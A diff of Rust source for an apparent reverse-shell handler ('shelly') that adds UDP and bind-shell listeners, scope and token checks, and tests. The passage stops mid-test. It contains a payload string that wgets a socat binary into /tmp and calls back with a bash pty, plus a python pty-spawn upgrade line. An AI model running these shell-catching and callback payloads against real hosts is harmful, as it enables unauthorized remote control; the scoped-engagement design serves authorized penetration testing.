@@ -1,13 +1,17 @@
+use crate::config::Endpoints;
 use crate::serve;
 use nix::{
     libc,
     sys::signal::{self, Signal, SigHandler},
 };
 use std::ffi::CStr;
-use std::io::{self, BufRead, Read, Write};
+use std::io::{self, Read, Write};
+use std::net::{Shutdown, SocketAddr, TcpStream, ToSocketAddrs, UdpSocket};
 use std::mem::zeroed;
+use std::os::fd::OwnedFd;
 use std::os::unix::io::AsRawFd;
-use std::process::{ChildStdin, Command, Stdio};
+use std::process::{Command, Stdio};
+use std::sync::Arc;
 use std::sync::atomic::{AtomicBool, Ordering};
 use std::thread;
 use std::time::Duration;
@@ -15,20 +19,37 @@ use termios::{ECHO, ICANON, TCSANOW, Termios, tcgetattr, tcsetattr};
 
 pub struct Socat {
     pub port: u16,
+    pub bind_host: String,
+    pub token: Option<String>,
+    pub token_timeout: Duration,
 }
 
 pub struct Netcat {
+    pub endpoints: Endpoints,
+    pub config: json::JsonValue,
+    pub token: Option<String>,
+}
+
+pub struct Udp {
+    pub endpoints: Endpoints,
+    pub config: json::JsonValue,
+    pub token: Option<String>,
+    /// Give up if no peer calls in within this long
+    pub wait: Option<Duration>,
+}
+
+pub struct Connect {
+    pub host: String,
     pub port: u16,
-    pub ip: String,
     pub config: json::JsonValue,
 }
 
 impl Netcat {
-    pub fn new(port: u16, config: json::JsonValue, ip: &str) -> Self {
+    pub fn new(endpoints: Endpoints, config: json::JsonValue, token: Option<String>) -> Self {
         Netcat {
-            port,
+            endpoints,
             config,
-            ip: ip.to_string(),
+            token,
         }
     }
     
@@ -47,23 +68,43 @@ impl Netcat {
     {
         // Setup signal handlers for session management
         setup_signal_handlers();
-        
-        let mut child = Command::new("nc")
+
+        // nc can't tell us who connected or check a token, so with either to
+        // enforce shelly accepts the shell itself
+        if accepts_natively(self.token.as_deref()) {
+            return self.run_native(callback);
+        }
+
+        let mut nc = Command::new("nc");
+        // the family follows the bind address; a wildcard bind takes
+        // whichever one the payloads call back on
+        let family_host = if self.endpoints.binds_all() {
+            &self.endpoints.advertise_host
+        } else {
+            &self.endpoints.bind_host
+        };
+        if crate::helpers::is_ipv6(family_host) {
+            nc.arg("-6");
+        }
+        if !self.endpoints.binds_all() {
+            nc.arg("-s").arg(&self.endpoints.bind_host);
+        }
+        let mut child = nc
             .arg("-lnvp")
-            .arg(self.port.to_string())
+            .arg(self.endpoints.port.to_string())
             .stdin(Stdio::piped())
             .stdout(Stdio::piped())
             .stderr(Stdio::inherit())
             .spawn()?;
 
-        let mut nc_stdin = child.stdin.take().expect("nc stdin");
-        let mut nc_stdout = child.stdout.take().expect("nc stdout");
+        let nc_stdin = child.stdin.take().expect("nc stdin");
+        let nc_stdout = child.stdout.take().expect("nc stdout");
 
         // Register session when connection is established
         let session_id = crate::session::SESSION_MANAGER.create_session(
             "netcat", 
-            self.port, 
-            &self.ip
+            self.endpoints.port, 
+            &self.endpoints.advertise_host
         );
         
         // Notify callback if provided
@@ -71,158 +112,504 @@ impl Netcat {
             cb(session_id);
         }
 
-        // stdout reader thread for nc
-        let _nc_read = thread::spawn(move || {
-            let mut out = io::stdout();
-            let mut buf = [0u8; 4096];
-            loop {
-                match nc_stdout.read(&mut buf) {
-                    Ok(0) | Err(_) => break,
-                    Ok(n) => {
-                        let _ = out.write_all(&buf[..n]);
-                        let _ = out.flush();
-                    }
+        interact(session_id, 0, nc_stdout, nc_stdin, None, &self.config, &self.endpoints)?;
+
+        // Deactivate session when connection ends
+        crate::session::SESSION_MANAGER.deactivate_session(session_id);
+        
+        child.wait()?;
+        Ok(())
+    }
+
+    /// Accept the shell natively (see `accept_checked`) and run the same
+    /// session pipeline nc's output would have gone through
+    fn run_native<F>(&self, mut callback: Option<F>) -> io::Result<()>
+    where
+        F: FnMut(usize),
+    {
+        let token = self.token.as_deref().map(|t| (t, crate::token::timeout(&self.config)));
+        let (stream, peer, payload) = accept_checked(&self.endpoints.bind_host, self.endpoints.port, "netcat", token)?;
+        let session_id = crate::session::SESSION_MANAGER.create_session(
+            "netcat",
+            self.endpoints.port,
+            &peer.ip().to_string(),
+        );
+        if let Some(payload) = crate::session::PAYLOAD_HISTORY.attribute(payload, peer.ip()) {
+            crate::session::SESSION_MANAGER.set_payload(session_id, payload);
+        }
+
+        // Notify callback if provided
+        if let Some(ref mut cb) = callback {
+            cb(session_id);
+        }
+
+        let reader = stream.try_clone()?;
+        let socket = stream.try_clone()?;
+        interact(session_id, 0, reader, stream, Some(socket), &self.config, &self.endpoints)?;
+
+        // Deactivate session when connection ends
+        crate::session::SESSION_MANAGER.deactivate_session(session_id);
+        Ok(())
+    }
+}
+
+/// Accept the first TCP connection on `bind_host:port` that is in the
+/// engagement scope and sends the token (with how long it gets to), for
+/// listeners that otherwise leave accepting to nc or socat. Every peer is
+/// audited; the rest are rejected as on the mux. Like `nc -l`, only one
+/// shell is accepted. Also returns the payload whose own token was sent.
+fn accept_checked(
+    bind_host: &str,
+    port: u16,
+    kind: &str,
+    token: Option<(&str, Duration)>,
+) -> io::Result<(TcpStream, SocketAddr, Option<usize>)> {
+    let listener = crate::helpers::bind_tcp(bind_host, port)?;
+    eprintln!("listening on {} ({}) ...", crate::helpers::host_port(bind_host, port), kind);
+    loop {
+        let (stream, peer) = listener.accept()?;
+        // dual-stack sockets report IPv4 peers as ::ffff:a.b.c.d
+        let peer = SocketAddr::new(peer.ip().to_canonical(), peer.port());
+        if !crate::scope::allow(peer.ip(), &format!("{}:{}", kind, port)) {
+            reject_connection(peer, port, "out of scope");
+            continue;
+        }
+        let mut payload = None;
+        if let Some((token, timeout)) = token {
+            stream.set_read_timeout(Some(timeout))?;
+            match crate::token::verify(&mut &stream, token) {
+                Ok(matched) => payload = matched,
+                Err(reason) => {
+                    reject_connection(peer, port, &reason);
+                    continue;
                 }
             }
-        });
+            stream.set_read_timeout(None)?;
+        }
+        eprintln!("connect to [{}] from {}", bind_host, peer);
+        return Ok((stream, peer, payload));
+    }
+}
 
-        let stdin = io::stdin();
-        let mut stdin_lock = stdin.lock();
-        let mut line = String::new();
+impl Udp {
+    pub fn new(endpoints: Endpoints, config: json::JsonValue, token: Option<String>) -> Self {
+        Udp {
+            endpoints,
+            config,
+            token,
+            wait: None,
+        }
+    }
 
+    /// Run the udp listener with a callback for when a session is established
+    pub fn run_with_callback<F>(&self, mut callback: F) -> io::Result<()>
+    where
+        F: FnMut(usize),
+    {
+        self.run_internal(Some(&mut callback))
+    }
+
+    fn run_internal<F>(&self, mut callback: Option<F>) -> io::Result<()>
+    where
+        F: FnMut(usize),
+    {
+        // Setup signal handlers for session management
+        setup_signal_handlers();
+
+        let port = self.endpoints.port;
+        let socket = crate::helpers::bind_udp(&self.endpoints.bind_host, port)?;
+        eprintln!("listening on {} (udp) ...", crate::helpers::host_port(&self.endpoints.bind_host, port));
+        socket.set_read_timeout(self.wait)?;
+
+        // The first (valid) datagram decides who the peer is; connecting the
+        // socket makes the kernel drop anything arriving from other sources.
+        let (first, from, peer, payload) = loop {
+            let mut datagram = vec![0u8; UDP_MAX_DATAGRAM];
+            let (n, from) = socket.recv_from(&mut datagram)?;
+            datagram.truncate(n);
+            // dual-stack sockets report IPv4 peers as ::ffff:a.b.c.d; keep
+            // the raw address for connect() and show the canonical one
+            let peer = SocketAddr::new(from.ip().to_canonical(), from.port());
+
+            if !crate::scope::allow(peer.ip(), &format!("udp:{}", port)) {
+                reject_connection(peer, port, "out of scope");
+                continue;
+            }
+
+            let Some(ref token) = self.token else {
+                break (datagram, from, peer, None);
+            };
+            // the token must be the first line of the first datagram
+            let checked = match datagram.iter().position(|&b| b == b'\n') {
+                Some(end) => crate::token::check_line(&datagram[..end], token).map(|p| (end, p)),
+                None => Err("no token line".to_string()),
+            };
+            match checked {
+                Ok((end, payload)) => break (datagram[end + 1..].to_vec(), from, peer, payload),
+                Err(reason) => reject_connection(peer, port, &reason),
+            }
+        };
+        socket.connect(from)?;
+        socket.set_read_timeout(None)?;
+        eprintln!("connect to [{}] from {}", self.endpoints.bind_host, peer);
+
+        let (session_id, connection) = crate::session::SESSION_MANAGER.open_session(
+            "udp",
+            port,
+            &peer.ip().to_string(),
+            crate::session::PAYLOAD_HISTORY.attribute(payload, peer.ip()),
+            crate::session::merge_reconnects(&self.config),
+        );
+
+        // Notify callback if provided
+        if connection > 0 {
+            eprintln!("[*] Session {} reconnected", session_id);
+        } else if let Some(ref mut cb) = callback {
+            cb(session_id);
+        }
+
+        let reader = UdpPeer { socket: socket.try_clone()?, pending: first };
+        let writer = UdpPeer { socket, pending: Vec::new() };
+        attach(session_id, connection, reader, writer, None, &self.config, &self.endpoints)?;
+
+        // Deactivate session when the user leaves it; udp has no close event
+        crate::session::SESSION_MANAGER.end_connection(session_id, connection);
+        Ok(())
+    }
+}
+
+impl Connect {
+    pub fn new(host: &str, port: u16, config: json::JsonValue) -> Self {
+        Connect {
+            host: host.to_string(),
+            port,
+            config,
+        }
+    }
+
+    /// Dial a bind shell with a callback for when a session is established
+    pub fn run_with_callback<F>(&self, mut callback: F) -> io::Result<()>
+    where
+        F: FnMut(usize),
+    {
+        self.run_internal(Some(&mut callback))
+    }
+
+    fn run_internal<F>(&self, mut callback: Option<F>) -> io::Result<()>
+    where
+        F: FnMut(usize),
+    {
+        // Setup signal handlers for session management
+        setup_signal_handlers();
+
+        let target = (self.host.as_str(), self.port)
+            .to_socket_addrs()?
+            .next()
+            .ok_or_else(|| io::Error::other(format!("could not resolve {}", self.host)))?;
+        if !crate::scope::allow(target.ip(), &format!("connect:{}", self.port)) {
+            return Err(io::Error::new(
+                io::ErrorKind::PermissionDenied,
+                format!("{} is outside the engagement scope", target.ip()),
+            ));
+        }
+
+        let stream = TcpStream::connect(target)?;
+        let peer = stream.peer_addr()?;
+        eprintln!("connected to {}", peer);
+
+        // The local end of this connection is the address the target can
+        // reach us on, which is what the :socat upgrade calls back to unless
+        // an advertised address is configured.
+        let local_ip = stream.local_addr()?.ip().to_canonical().to_string();
+        let endpoints = Endpoints::from_config(&self.config, &local_ip, self.port);
+
+        let session_id = crate::session::SESSION_MANAGER.create_session(
+            "bind",
+            self.port,
+            &peer.ip().to_string()
+        );
+
+        // Notify callback if provided
+        if let Some(ref mut cb) = callback {
+            cb(session_id);
+        }
+
+        let reader = stream.try_clone()?;
+        let socket = stream.try_clone()?;
+        attach(session_id, 0, reader, stream, Some(socket), &self.config, &endpoints)?;
+
+        // Deactivate session when connection ends
+        crate::session::SESSION_MANAGER.deactivate_session(session_id);
+        Ok(())
+    }
+}
+
+/// Record a connection that was dropped before it became a session. These
+/// stay off the terminal and are listed by the `rejected` command.
+pub fn reject_connection(peer: SocketAddr, listener_port: u16, reason: &str) {
+    crate::session::REJECTED_LOG.record(&peer.to_string(), listener_port, reason);
+}
+
+/// Largest payload a single UDP datagram can carry
+const UDP_MAX_DATAGRAM: usize = 65535;
+
+/// A connected UDP socket exposed as a byte stream so it can share the
+/// session pipeline with nc. Each write is sent as one datagram; reads hand
+/// out buffered datagram bytes so nothing is truncated by small read buffers.
+struct UdpPeer {
+    socket: UdpSocket,
+    pending: Vec<u8>,
+}
+
+impl Read for UdpPeer {
+    fn read(&mut self, buf: &mut [u8]) -> io::Result<usize> {
+        if self.pending.is_empty() {
+            let mut datagram = vec![0u8; UDP_MAX_DATAGRAM];
+            let n = self.socket.recv(&mut datagram)?;
+            datagram.truncate(n);
+            self.pending = datagram;
+        }
+        let n = buf.len().min(self.pending.len());
+        buf[..n].copy_from_slice(&self.pending[..n]);
+        self.pending.drain(..n);
+        Ok(n)
+    }
+}
+
+impl Write for UdpPeer {
+    fn write(&mut self, buf: &[u8]) -> io::Result<usize> {
+        self.socket.send(buf)
+    }
+
+    fn flush(&mut self) -> io::Result<()> {
+        Ok(())
+    }
+}
+
+/// Payload sent down a basic shell by `:socat` to call back with a full pty
+const SOCAT_UPGRADE: &str = "wget -q http://{ip}:{http_port}/socatx64.bin -O /tmp/socat; chmod +x /tmp/socat; /tmp/socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:{ip}:{port}";
+
+/// Hand a new session to the terminal, or to the probe while `shelly
+/// selftest` runs
+pub fn attach<R, W>(
+    session_id: usize,
+    connection: usize,
+    remote_out: R,
+    remote_in: W,
+    socket: Option<TcpStream>,
+    config: &json::JsonValue,
+    endpoints: &Endpoints,
+) -> io::Result<()>
+where
+    R: Read + Send + 'static,
+    W: Write,
+{
+    if crate::selftest::active() {
+        return crate::selftest::probe(session_id, remote_out, remote_in);
+    }
+    interact(session_id, connection, remote_out, remote_in, socket, config, endpoints)
+}
+
+/// Session I/O pipeline shared by every listener: remote output is copied to
+/// stdout on a reader thread, while local input lines (and `:` commands) are
+/// written to `remote_in`. Returns when the user quits, upgrades or backgrounds.
+/// `connection` is the session's connection number from `open_session`.
+/// `socket` is the TCP connection behind the streams, if any; `:quit` shuts
+/// it down so the remote and the reader thread see the close.
+pub fn interact<R, W>(
+    session_id: usize,
+    connection: usize,
+    mut remote_out: R,
+    mut remote_in: W,
+    socket: Option<TcpStream>,
+    config: &json::JsonValue,
+    endpoints: &Endpoints,
+) -> io::Result<()>
+where
+    R: Read + Send + 'static,
+    W: Write,
+{
+    // stdout reader thread for the remote end. A dropped shell is marked
+    // inactive right away, even while the input loop waits on stdin, so a
+    // reconnect can be reattached to it (unless one already was).
+    let closed = Arc::new(AtomicBool::new(false));
+    let remote_closed = closed.clone();
+    let _remote_read = thread::spawn(move || {
+        let mut out = io::stdout();
+        let mut buf = [0u8; 4096];
         loop {
-            // Check if we've been asked to background the session
-            if check_background_requested() {
-                println!("\n[*] Backgrounding session {}...", session_id);
-                // Update session activity before backgrounding
-                crate::session::SESSION_MANAGER.update_session_activity(session_id);
-                
-                // In a full implementation, we would suspend the session here
-                // For now, we'll just return to let the main loop handle it
-                break;
+            match remote_out.read(&mut buf) {
+                Ok(0) | Err(_) => {
+                    // already set when the user quit
+                    if !remote_closed.swap(true, Ordering::SeqCst) {
+                        crate::session::SESSION_MANAGER.end_connection(session_id, connection);
+                        println!("\n[*] Session {} closed by remote", session_id);
+                    }
+                    break;
+                }
+                Ok(n) => {
+                    crate::session::SESSION_MANAGER.append_output(session_id, &buf[..n]);
+                    let _ = out.write_all(&buf[..n]);
+                    let _ = out.flush();
+                }
             }
+        }
+    });
+
+    let stdin = io::stdin();
+    let mut stdin_lock = stdin.lock();
+    let mut input = InputLines::new();
+
+    loop {
+        // Check if we've been asked to background the session
+        if check_background_requested() {
+            println!("\n[*] Backgrounding session {}...", session_id);
+            // Update session activity before backgrounding
+            crate::session::SESSION_MANAGER.update_session_activity(session_id);
             
-            line.clear();
-            if stdin_lock.read_line(&mut line)? == 0 {
-                break;
-            }
-            let trimmed = line.trim_end_matches('\n');
-
-            if trimmed.starts_with(':') {
-                match trimmed {
-                    ":upgrade" => {
-                        println!("ℹ️  Ctrl+C will still kill this shell. Upgrade to socat with :socat");
-                        nc_stdin.write_all(b"python3 -c 'import pty; pty.spawn(\"/bin/bash\")'\n")?;
-                        let saved = set_raw_mode()?;
-                        raw_forward(&mut nc_stdin)?;
-                        restore_mode(&saved)?;
-                        break;
+            // In a full implementation, we would suspend the session here
+            // For now, we'll just return to let the main loop handle it
+            break;
+        }
+
+        if closed.load(Ordering::SeqCst) {
+            break;
+        }
+        let line = match input.next(&mut stdin_lock)? {
+            Input::Line(line) => line,
+            Input::Idle => continue,
+            Input::Eof => break,
+        };
+        let trimmed = line.as_str();
+
+        if trimmed.starts_with(':') {
+            match trimmed {
+                ":upgrade" => {
+                    println!("ℹ️  Ctrl+C will still kill this shell. Upgrade to socat with :socat");
+                    remote_in.write_all(b"python3 -c 'import pty; pty.spawn(\"/bin/bash\")'\n")?;
+                    let saved = set_raw_mode()?;
+                    raw_forward(&mut remote_in)?;
+                    restore_mode(&saved)?;
+                    break;
+                }
+                ":socat" => {
+                    // serve socat binary; the upgrade fetches it itself, so
+                    // no cheatsheet
+                    let serve_files = ["socat".to_string()];
+                    let served = serve::collect_from_config(&serve_files, config)
+                        .and_then(|files| serve::spawn_server(files, endpoints, None));
+                    if let Err(e) = served {
+                        println!("⚠️  {}", e);
+                        continue;
                     }
-                    ":socat" => {
-                        // serve socat binary
-                        let serve_files = ["socat".to_string()];
-                        let http_port = self.config["shelly"]["default_http_svr"]
-                            .as_u16()
-                            .unwrap();
-                        serve::build_from_config(&serve_files, &self.config, http_port);
-
-                        let socat_port = self.port + 1;
-                        let tty = get_tty_path()?;
-                        let file_arg = format!("file:{},raw,echo=0", tty);
-
-                        let mut socat_child = Command::new("socat")
-                            .arg(file_arg)
-                            .arg(format!("tcp-listen:{},reuseaddr,fork", socat_port))
-                            .stdin(Stdio::piped())
-                            .stdout(Stdio::piped())
-                            .stderr(Stdio::inherit())
-                            .spawn()
-                            .map_err(|e| {
-                                eprintln!("failed to start local socat: {}", e);
-                                e
-                            })?;
-
-                        let payload = format!(
-                            "wget -q http://{ip}:{http_port}/socatx64.bin -O /tmp/socat; chmod +x /tmp/socat; /tmp/socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:{ip}:{port}\n",
-                            ip = self.ip,
-                            http_port = http_port,
-                            port = socat_port
-                        );
-                        nc_stdin.write_all(payload.as_bytes())?;
-                        nc_stdin.flush()?;
-                        drop(nc_stdin);
-
-                        // wait briefly for remote to connect back
-                        thread::sleep(Duration::from_millis(200));
-
-                        let mut socat_stdin = socat_child.stdin.take().expect("socat stdin");
-                        let mut socat_stdout = socat_child.stdout.take().expect("socat stdout");
-
-                        let saved = set_raw_mode()?;
-
-                        // thread to read socat stdout -> local stdout
-                        let reader = thread::spawn(move || {
-                            let mut out = io::stdout();
-                            let mut buf = [0u8; 4096];
-                            loop {
-                                match socat_stdout.read(&mut buf) {
-                                    Ok(0) | Err(_) => break,
-                                    Ok(n) => {
-                                        let _ = out.write_all(&buf[..n]);
-                                        let _ = out.flush();
-                                    }
+
+                    // the callback lands one port above the listener, locally
+                    // and on the advertised side
+                    let socat_port = endpoints.port + 1;
+                    let tty = get_tty_path()?;
+                    let file_arg = format!("file:{},raw,echo=0", tty);
+
+                    let mut socat_child = Command::new("socat")
+                        .arg(file_arg)
+                        .arg(socat_listen_address(socat_port, &endpoints.bind_host))
+                        .stdin(Stdio::piped())
+                        .stdout(Stdio::piped())
+                        .stderr(Stdio::inherit())
+                        .spawn()
+                        .map_err(|e| {
+                            eprintln!("failed to start local socat: {}", e);
+                            e
+                        })?;
+
+                    let vars = crate::payload::Vars {
+                        ip: endpoints.advertise_host.clone(),
+                        port: endpoints.advertise_port + 1,
+                        http_port: endpoints.advertise_http_port,
+                        token: None,
+                        shell: "socat".to_string(),
+                        custom: Vec::new(),
+                    };
+                    let payload = crate::payload::render(SOCAT_UPGRADE, &vars).command;
+                    remote_in.write_all(payload.as_bytes())?;
+                    remote_in.write_all(b"\n")?;
+                    remote_in.flush()?;
+                    drop(remote_in);
+
+                    // wait briefly for remote to connect back
+                    thread::sleep(Duration::from_millis(200));
+
+                    let mut socat_stdin = socat_child.stdin.take().expect("socat stdin");
+                    let mut socat_stdout = socat_child.stdout.take().expect("socat stdout");
+
+                    let saved = set_raw_mode()?;
+
+                    // thread to read socat stdout -> local stdout
+                    let reader = thread::spawn(move || {
+                        let mut out = io::stdout();
+                        let mut buf = [0u8; 4096];
+                        loop {
+                            match socat_stdout.read(&mut buf) {
+                                Ok(0) | Err(_) => break,
+                                Ok(n) => {
+                                    let _ = out.write_all(&buf[..n]);
+                                    let _ = out.flush();
                                 }
                             }
-                        });
-
-                        // main thread: stdin -> socat_stdin, forward Ctrl-C as byte 0x03
-                        {
-                            let stdin = io::stdin();
-                            let mut handle = stdin.lock();
-                            let mut buf = [0u8; 4096];
-                            loop {
-                                let n = handle.read(&mut buf)?;
-                                if n == 0 {
+                        }
+                    });
+
+                    // main thread: stdin -> socat_stdin, forward Ctrl-C as byte 0x03
+                    {
+                        let stdin = io::stdin();
+                        let mut handle = stdin.lock();
+                        let mut buf = [0u8; 4096];
+                        loop {
+                            let n = handle.read(&mut buf)?;
+                            if n == 0 {
+                                break;
+                            }
+                            for &b in &buf[..n] {
+                                let to_write = [b];
+                                if socat_stdin.write_all(&to_write).is_err() {
                                     break;
                                 }
-                                for &b in &buf[..n] {
-                                    let to_write = [b];
-                                    if let Err(_) = socat_stdin.write_all(&to_write) {
-                                        break;
-                                    }
-                                }
-                                socat_stdin.flush()?;
                             }
+                            socat_stdin.flush()?;
                         }
-
-                        restore_mode(&saved)?;
-                        let _ = reader.join();
-                        let _ = socat_child.wait();
-                        break;
                     }
-                    ":quit" => {
-                        drop(nc_stdin);
-                        break;
+
+                    restore_mode(&saved)?;
+                    let _ = reader.join();
+                    let _ = socat_child.wait();
+                    break;
+                }
+                ":quit" => {
+                    drop(remote_in);
+                    closed.store(true, Ordering::SeqCst);
+                    if let Some(ref socket) = socket {
+                        let _ = socket.shutdown(Shutdown::Both);
                     }
-                    _ => eprintln!("unknown command: {}", trimmed),
+                    break;
                 }
-            } else {
-                nc_stdin.write_all(trimmed.as_bytes())?;
-                nc_stdin.write_all(b"\n")?;
+                _ => eprintln!("unknown command: {}", trimmed),
             }
+        } else {
+            remote_in.write_all(trimmed.as_bytes())?;
+            remote_in.write_all(b"\n")?;
         }
-
-        // Deactivate session when connection ends
-        crate::session::SESSION_MANAGER.deactivate_session(session_id);
-        
-        child.wait()?;
-        Ok(())
     }
+
+    Ok(())
 }
 
 impl Socat {
-    pub fn new(port: u16) -> Self {
-        Socat { port }
+    pub fn new(port: u16, bind_host: &str, token: Option<String>, token_timeout: Duration) -> Self {
+        Socat {
+            port,
+            bind_host: bind_host.to_string(),
+            token,
+            token_timeout,
+        }
     }
     
     /// Run the socat listener with a callback for when a session is established
@@ -235,6 +622,7 @@ impl Socat {
     
     
     /// Original run method maintained for backward compatibility
+    #[allow(dead_code)]
     pub fn run(&self) -> io::Result<()> {
         self.run_internal::<fn(usize)>(None)
     }
@@ -249,21 +637,36 @@ impl Socat {
         let tty = get_tty_path()?;
         let file_arg = format!("file:{},raw,echo=0", tty);
 
+        // socat can't tell us who connected or check a token, so with either
+        // to enforce shelly accepts the shell and hands socat the socket as
+        // its stdin
+        let mut payload = None;
+        let (remote, stdin, target_ip) = if accepts_natively(self.token.as_deref()) {
+            let token = self.token.as_deref().map(|t| (t, self.token_timeout));
+            let (stream, peer, matched) = accept_checked(&self.bind_host, self.port, "socat", token)?;
+            payload = crate::session::PAYLOAD_HISTORY.attribute(matched, peer.ip());
+            ("fd:0".to_string(), Stdio::from(OwnedFd::from(stream)), peer.ip().to_string())
+        } else {
+            // For socat, we don't have direct access to the client IP in this implementation
+            (socat_listen_address(self.port, &self.bind_host), Stdio::inherit(), "unknown".to_string())
+        };
+
         let mut child = Command::new("socat")
             .arg(file_arg)
-            .arg(format!("tcp-listen:{},reuseaddr,fork", self.port))
-            .stdin(Stdio::inherit())
+            .arg(remote)
+            .stdin(stdin)
             .stdout(Stdio::inherit())
             .stderr(Stdio::inherit())
             .spawn()?;
 
-        // For socat, we don't have direct access to the client IP in this implementation
-        // We'll use a placeholder and update it later if we can determine the client IP
         let session_id = crate::session::SESSION_MANAGER.create_session(
             "socat", 
             self.port, 
-            "unknown"
+            &target_ip
         );
+        if let Some(payload) = payload {
+            crate::session::SESSION_MANAGER.set_payload(session_id, payload);
+        }
         
         // Notify callback if provided
         if let Some(ref mut cb) = callback {
@@ -287,24 +690,112 @@ impl Socat {
         if status.success() {
             Ok(())
         } else {
-            Err(io::Error::new(
-                io::ErrorKind::Other,
-                format!("socat exited: {}", status),
-            ))
+            Err(io::Error::other(format!("socat exited: {}", status)))
+        }
+    }
+}
+
+/// Whether shelly accepts `netcat` and `socat_raw` shells itself instead of
+/// leaving it to nc or socat, which can't check the scope or a token
+fn accepts_natively(token: Option<&str>) -> bool {
+    crate::scope::is_active() || token.is_some()
+}
+
+/// The host a `listener` really binds for `endpoints`, and whether it binds
+/// exactly that one: nc and socat don't fall back to IPv4 the way
+/// `bind_tcp` does for shelly's own listeners. Used by the pre-flight check.
+pub fn listen_host(listener: &str, endpoints: &Endpoints, token: Option<&str>) -> (String, bool) {
+    if matches!(listener, "mux" | "udp" | "connect") || accepts_natively(token) {
+        return (endpoints.bind_host.clone(), false);
+    }
+    if !endpoints.binds_all() {
+        return (endpoints.bind_host.clone(), true);
+    }
+    // wildcard binds: socat's tcp-listen is IPv4, nc follows the callback family
+    let ipv6 = listener != "socat_raw" && crate::helpers::is_ipv6(&endpoints.advertise_host);
+    (if ipv6 { "::" } else { "0.0.0.0" }.to_string(), true)
+}
+
+/// socat listen address for a local port, honouring the bind host. Wildcard
+/// binds stay plain tcp-listen, which also works where IPv6 is disabled.
+fn socat_listen_address(port: u16, bind_host: &str) -> String {
+    match bind_host {
+        "" | "::" | "0.0.0.0" => format!("tcp-listen:{},reuseaddr,fork", port),
+        host if crate::helpers::is_ipv6(host) => format!("tcp6-listen:{},reuseaddr,fork,bind={}", port, host),
+        host => format!("tcp-listen:{},reuseaddr,fork,bind={}", port, host),
+    }
+}
+
+/// How long the input loop waits on stdin before checking on the session again
+const INPUT_POLL_MS: i32 = 200;
+
+/// Reads at least std's stdin buffer size so reads bypass it and nothing
+/// typed sits where `poll` can't see it
+const INPUT_CHUNK: usize = 16 * 1024;
+
+enum Input {
+    Line(String),
+    /// Nothing typed within INPUT_POLL_MS
+    Idle,
+    Eof,
+}
+
+/// Lines typed into a session, read without blocking for long so the loop
+/// can notice a backgrounded or dropped session
+struct InputLines {
+    pending: Vec<u8>,
+}
+
+impl InputLines {
+    fn new() -> Self {
+        InputLines { pending: Vec::new() }
+    }
+
+    /// The next line, without its newline
+    fn next<R: Read>(&mut self, stdin: &mut R) -> io::Result<Input> {
+        loop {
+            if let Some(end) = self.pending.iter().position(|&b| b == b'\n') {
+                let line: Vec<u8> = self.pending.drain(..=end).collect();
+                return Ok(Input::Line(String::from_utf8_lossy(&line[..end]).into_owned()));
+            }
+            if !stdin_ready() {
+                return Ok(Input::Idle);
+            }
+            let mut buf = vec![0u8; INPUT_CHUNK];
+            let n = stdin.read(&mut buf)?;
+            if n == 0 {
+                if self.pending.is_empty() {
+                    return Ok(Input::Eof);
+                }
+                let line = String::from_utf8_lossy(&self.pending).into_owned();
+                self.pending.clear();
+                return Ok(Input::Line(line));
+            }
+            self.pending.extend_from_slice(&buf[..n]);
         }
     }
 }
 
+/// Whether stdin has input (or hit EOF) within INPUT_POLL_MS
+fn stdin_ready() -> bool {
+    let mut fds = libc::pollfd {
+        fd: libc::STDIN_FILENO,
+        events: libc::POLLIN,
+        revents: 0,
+    };
+    unsafe { libc::poll(&mut fds, 1, INPUT_POLL_MS) > 0 }
+}
+
 /// Helper: read tty path (shared by Netcat and Socat)
 fn get_tty_path() -> io::Result<String> {
     unsafe {
         let path_ptr = libc::ttyname(libc::STDIN_FILENO);
         if !path_ptr.is_null() {
             let cstr = CStr::from_ptr(path_ptr);
-            if let Ok(s) = cstr.to_str() {
-                if !s.is_empty() {
-                    return Ok(s.to_string());
-                }
+            if let Ok(s) = cstr.to_str()
+                && !s.is_empty()
+            {
+                return Ok(s.to_string());
             }
         }
     }
@@ -317,7 +808,7 @@ fn get_tty_path() -> io::Result<String> {
         }
     }
 
-    Err(io::Error::new(io::ErrorKind::Other, "no controlling tty found"))
+    Err(io::Error::other("no controlling tty found"))
 }
 
 /// Put stdin into raw mode. Returns original Termios for restoration.
@@ -325,7 +816,7 @@ fn set_raw_mode() -> io::Result<Termios> {
     let fd = io::stdin().as_raw_fd();
     let mut orig: Termios = unsafe { zeroed() };
     tcgetattr(fd, &mut orig)?;
-    let mut raw = orig.clone();
+    let mut raw = orig;
     raw.c_lflag &= !(ICANON | ECHO);
     tcsetattr(fd, TCSANOW, &raw)?;
     Ok(orig)
@@ -338,9 +829,9 @@ fn restore_mode(orig: &Termios) -> io::Result<()> {
     Ok(())
 }
 
-/// Forward stdin bytes to provided ChildStdin (used after upgrade).
+/// Forward stdin bytes to the remote end of a session (used after upgrade).
 /// Ctrl-C (0x03) is forwarded as a literal byte.
-fn raw_forward(nc_stdin: &mut ChildStdin) -> io::Result<()> {
+fn raw_forward<W: Write>(nc_stdin: &mut W) -> io::Result<()> {
     let stdin = io::stdin();
     let mut handle = stdin.lock();
     let mut buf = [0u8; 4096];
@@ -377,10 +868,52 @@ fn check_background_requested() -> bool {
 }
 
 /// Setup signal handlers for session management
-fn setup_signal_handlers() {
+pub fn setup_signal_handlers() {
     unsafe {
         // Set up handler for SIGTSTP (Ctrl+Z)
         let _ = signal::signal(Signal::SIGTSTP, SigHandler::Handler(handle_sigtsp));
         // For now, we won't handle SIGTTOU/SIGTTIN
     }
-}
\ No newline at end of file
+}
+
+#[cfg(test)]
+mod tests {
+    use super::{listen_host, socat_listen_address};
+    use crate::config::Endpoints;
+
+    #[test]
+    fn socat_wildcard_binds_stay_tcp() {
+        for host in ["", "::", "0.0.0.0"] {
+            assert_eq!(socat_listen_address(4444, host), "tcp-listen:4444,reuseaddr,fork");
+        }
+    }
+
+    #[test]
+    fn socat_explicit_binds() {
+        assert_eq!(socat_listen_address(4444, "10.0.0.1"), "tcp-listen:4444,reuseaddr,fork,bind=10.0.0.1");
+        assert_eq!(socat_listen_address(4444, "fd00::1"), "tcp6-listen:4444,reuseaddr,fork,bind=fd00::1");
+    }
+
+    #[test]
+    fn listen_hosts_for_preflight() {
+        let endpoints = |bind: &str, advertise: &str| Endpoints {
+            bind_host: bind.to_string(),
+            port: 4444,
+            http_port: 8000,
+            advertise_host: advertise.to_string(),
+            advertise_port: 4444,
+            advertise_http_port: 8000,
+        };
+        let host = |listener: &str, bind: &str, advertise: &str, token: Option<&str>| {
